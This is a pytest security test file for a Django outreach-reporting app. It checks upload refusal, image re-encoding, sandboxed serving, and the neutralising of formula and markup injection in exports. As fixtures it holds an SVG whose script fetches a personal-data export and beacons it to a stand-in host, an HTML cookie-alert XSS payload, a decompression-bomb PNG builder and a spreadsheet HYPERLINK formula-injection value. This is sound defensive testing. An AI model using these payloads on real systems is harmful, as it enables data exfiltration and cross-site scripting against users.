"""Issue 11, item 1: script in uploaded files must never run on our origin. Evidence and directive
attachments are accepted only when their bytes are a verified format (images decoded and
re-encoded), and every stored upload is served as a sandboxed attachment. Item 14: upload
messages name the file by its (shortened) client name only; an over-long name says so.
Item 8/9 for the outreach exports: hostile organisation names in the totals workbook and a
hostile directive rendered as PDF."""
from __future__ import annotations

import datetime as dt
import io
import struct
import zlib

import openpyxl
import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from ansinh.core.demo import DEMO_PASSWORD
from ansinh.outreach.models import Attachment, Directive, Evidence, Report, Task

from .conftest import PNG, same_image

pytestmark = pytest.mark.django_db

SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>fetch("/registry/persons/export/").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))'
       b'</script><rect width="10" height="10"/></svg>')
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def login(username: str) -> Client:
    c = Client()
    assert c.login(username=username, password=DEMO_PASSWORD)
    return c


@pytest.fixture
def task(demo) -> Task:
    return Task.objects.get(directive_id=demo["directive"], recipient__name="Phòng Văn hóa - Xã hội phường Đông Kinh")


def _report(c: Client, task: Task, *files: SimpleUploadedFile):
    return c.post(f"/outreach/tasks/{task.pk}/", {
        "period_start": "01/02/2024", "period_end": dt.date.today().strftime("%d/%m/%Y"), "banners": "2",
        "evidence": list(files)})


def _error(r) -> str:
    assert r.status_code == 200, r.status_code
    html = r.content.decode()
    assert 'data-testid="report-error"' in html
    return html.split('data-testid="report-error">')[1].split("</div>")[0]


def _uploads_on_disk() -> list:
    root = settings.MEDIA_ROOT / "outreach" / "evidence"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def assert_sandboxed_attachment(r, *, not_type: str = "") -> None:
    assert r.status_code == 200
    assert r["Content-Disposition"].startswith("attachment;")
    assert r["X-Content-Type-Options"] == "nosniff"
    csp = r["Content-Security-Policy"]
    assert "sandbox" in csp and "default-src 'none'" in csp
    ctype = r["Content-Type"].split(";")[0]
    assert ctype in ("image/png", "image/jpeg", "image/webp", "application/pdf", "application/octet-stream") \
        or ctype.startswith(("audio/", "video/", "application/vnd."))
    if not_type:
        assert not_type not in r["Content-Type"]


# --------------------------------------------------------------------------- refused at upload

def test_svg_with_script_is_refused_at_upload(task):
    c = login("vhxh_dongkinh")
    r = _report(c, task, SimpleUploadedFile("anh-minh-chung.svg", SVG, content_type="image/svg+xml"))
    msg = _error(r)
    assert "anh-minh-chung.svg" in msg and "không nhận loại tệp này" in msg and "\n" not in msg.strip()
    assert not Report.objects.filter(task=task).exists() and not Evidence.objects.exists()
    assert _uploads_on_disk() == []


def test_png_renamed_svg_and_html_as_image_are_refused(task):
    c = login("vhxh_dongkinh")
    for f in (SimpleUploadedFile("anh.svg", PNG, content_type="image/svg+xml"),       # a PNG renamed .svg
              SimpleUploadedFile("anh.html", HTML, content_type="image/png"),         # HTML claiming image/png
              SimpleUploadedFile("anh.png", HTML, content_type="image/png"),          # HTML renamed .png
              SimpleUploadedFile("anh.png", SVG, content_type="image/png"),           # SVG renamed .png
              SimpleUploadedFile("bao-cao.pdf", HTML, content_type="application/pdf"),  # not a PDF
              SimpleUploadedFile("phong-su.mp4", HTML, content_type="video/mp4")):    # not an MP4
        msg = _error(_report(c, task, f))
        assert f.name in msg and "không nhận loại tệp này" in msg, (f.name, msg)
    assert not Evidence.objects.exists() and _uploads_on_disk() == []


def test_decompression_bomb_png_is_refused(task):
    """A 100,000 x 100,000 PNG declared in a few hundred bytes: refused from the header, not decoded."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    bomb = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""))
    c = login("vhxh_dongkinh")
    msg = _error(_report(c, task, SimpleUploadedFile("bom.png", bomb, content_type="image/png")))
    assert "bom.png" in msg and "ảnh quá lớn" in msg
    assert not Evidence.objects.exists()


def test_real_png_and_jpeg_are_reencoded_without_metadata(task):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    buf = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(buf, "PNG", pnginfo=info)
    png = buf.getvalue()
    exif = Image.Exif()
    exif[0x010E] = "GPS 21.85N 106.76E"  # ImageDescription
    buf = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 120, 10)).save(buf, "JPEG", exif=exif.tobytes(), quality=95)
    jpeg = buf.getvalue()
    c = login("vhxh_dongkinh")
    r = _report(c, task, SimpleUploadedFile("loa.png", png, content_type="image/png"),
                SimpleUploadedFile("bang-ron.JPG", jpeg, content_type="image/jpeg"))
    assert r.status_code == 302, r.content.decode()[:500]
    stored = {e.name: e for e in Evidence.objects.all()}
    assert set(stored) == {"loa.png", "bang-ron.JPG"}
    p = stored["loa.png"].file.read()
    assert p != png and b"<script>" not in p and b"tEXt" not in p  # re-encoded, text chunk gone
    img = Image.open(io.BytesIO(p))
    assert img.format == "PNG" and img.size == (40, 30) and img.convert("RGB").getpixel((5, 5)) == (10, 120, 200)
    assert stored["loa.png"].content_type == "image/png"
    j = stored["bang-ron.JPG"].file.read()
    assert j != jpeg and b"GPS" not in j and b"Exif" not in j
    img = Image.open(io.BytesIO(j))
    assert img.format == "JPEG" and img.size == (40, 30) and not img.getexif()
    assert stored["bang-ron.JPG"].content_type == "image/jpeg"
    # served back as a sandboxed attachment with the verified type
    for e in stored.values():
        served = c.get(f"/outreach/evidence/{e.pk}/")
        assert_sandboxed_attachment(served)
        assert served["Content-Type"] == e.content_type
        assert same_image(b"".join(served.streaming_content), e.file.open("rb").read())


def test_pdf_and_audio_evidence_are_accepted_by_their_bytes(task):
    c = login("vhxh_dongkinh")
    wav = b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + b"\0" * 24
    r = _report(c, task, SimpleUploadedFile("bao-cao.pdf", b"%PDF-1.4\n%%EOF\n", content_type="application/pdf"),
                SimpleUploadedFile("ban-tin.wav", wav, content_type="audio/wav"))
    assert r.status_code == 302
    assert sorted(Evidence.objects.values_list("name", "content_type")) == [
        ("ban-tin.wav", "audio/wav"), ("bao-cao.pdf", "application/pdf")]


# --------------------------------------------------------------------------- served as an attachment

def test_stored_svg_from_before_is_served_as_a_sandboxed_attachment(task):
    """A file stored before the fix (an SVG with script, content type image/svg+xml) is never
    served inline, sniffed or as SVG."""
    report = Report.objects.create(task=task, organisation=task.recipient, submitted_at=dt.datetime.now(dt.UTC),
                                   period_start=dt.date(2024, 2, 1), period_end=dt.date(2024, 2, 2),
                                   scope_commune=task.scope_commune, province_code=task.province_code)
    e = Evidence(report=report, name="ảnh minh chứng.svg", content_type="image/svg+xml")
    e.file.save("anh.svg", ContentFile(SVG), save=True)
    for user in ("vhxh_dongkinh", "tinh"):  # the uploader and the province officer who opens it
        r = login(user).get(f"/outreach/evidence/{e.pk}/")
        assert_sandboxed_attachment(r, not_type="svg")
        assert r["Content-Type"] == "application/octet-stream"
        cd = r["Content-Disposition"]
        assert 'filename="anh_minh_chung.svg"' in cd  # ASCII fallback
        assert "filename*=UTF-8''%E1%BA%A3nh%20minh%20ch%E1%BB%A9ng.svg" in cd  # RFC 6266 / 5987
        assert b"".join(r.streaming_content) == SVG


def test_directive_attachments_verified_and_served_sandboxed(demo):
    d = Directive.objects.get(pk=demo["directive"])
    dept = login("tinh")
    before = Attachment.objects.count()
    for name, content in (("ke-hoach.svg", SVG), ("ke-hoach.html", HTML), ("ke-hoach.docx", b"PK\x03\x04 not a zip"),
                          ("ke-hoach.pdf", HTML)):
        r = dept.post(f"/outreach/directives/{d.pk}/attach/",
                      {"title": "Kế hoạch", "file": SimpleUploadedFile(name, content, content_type="text/html")},
                      follow=True)
        assert name in r.content.decode() and "không nhận loại tệp này" in r.content.decode(), name
    assert Attachment.objects.count() == before
    r = dept.post(f"/outreach/directives/{d.pk}/attach/",
                  {"title": "Kế hoạch", "file": SimpleUploadedFile("ke-hoach.pdf", b"%PDF-1.7\n%%EOF\n")})
    assert r.status_code == 302 and Attachment.objects.count() == before + 1
    seed_docx = d.attachments.order_by("pk").first()  # the seed letter's .docx (a real OOXML zip)
    for url in (f"/outreach/attachments/{seed_docx.pk}/", f"/public/directives/attachments/{seed_docx.pk}/"):
        r = (dept if url.startswith("/outreach") else Client()).get(url)
        assert_sandboxed_attachment(r)
        assert r["Content-Type"] == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


# --------------------------------------------------------------------------- names in messages (item 14)

def test_upload_messages_name_the_file_only_and_say_when_the_name_is_too_long(task):
    c = login("vhxh_dongkinh")
    long_name = "a" * 400 + ".png"
    msg = _error(_report(c, task, SimpleUploadedFile(long_name, PNG, content_type="image/png")))
    assert "tên tệp quá dài" in msg and "không nhận loại" not in msg and long_name not in msg
    assert len(msg) < 300
    msg = _error(_report(c, task, SimpleUploadedFile("C:\\Users\\canbo\\Desktop\\anh.svg", SVG)))
    assert msg.startswith("anh.svg:") and "Users" not in msg
    for m in (msg,):
        assert str(settings.MEDIA_ROOT) not in m and "/tmp" not in m
    assert not Evidence.objects.exists()


# --------------------------------------------------------------------------- exports (items 8, 9)

HOSTILE = '=HYPERLINK("http://x","y")'


def test_outreach_totals_workbook_has_no_formula_from_an_organisation_name(task):
    from ansinh.core.models import Organisation

    Organisation.objects.filter(pk=task.recipient_id).update(name=HOSTILE)
    c = login("vhxh_dongkinh")
    assert _report(c, task).status_code == 302
    r = login("tinh").get("/outreach/summary/?by=unit&format=xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [cl.coordinate for cl in cells if cl.data_type == "f"]
    assert "'" + HOSTILE in [cl.value for cl in cells]


def test_directive_with_hostile_names_renders_as_pdf(demo):
    """The directive PDF (python-docx → LibreOffice): markup in names is text."""
    from pypdf import PdfReader

    from ansinh.core.models import Organisation
    from ansinh.outreach import services
    from ansinh.outreach.rendering import soffice_path

    assert soffice_path(), "LibreOffice is needed for the directive PDF (installed by .ci/run)"
    hostile = '<b>Lò & "Hoa"</font> <para> <font name=x>'
    d = services.create_directive(Organisation.objects.get(symbol="STTTT"), symbol="STTTT-TTBCXB",
                                  subject=f"về {hostile}", signer_name=hostile, body=f"Nội dung {hostile}",
                                  date=dt.date(2024, 4, 2))
    r = login("tinh").get(f"/outreach/directives/{d.pk}/file.pdf")
    assert r.status_code == 200 and r.content.startswith(b"%PDF-")
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(r.content)).pages)
    assert "<b>Lò & \"Hoa\"</font>" in text.replace("\n", " ").replace("“", '"').replace("”", '"')
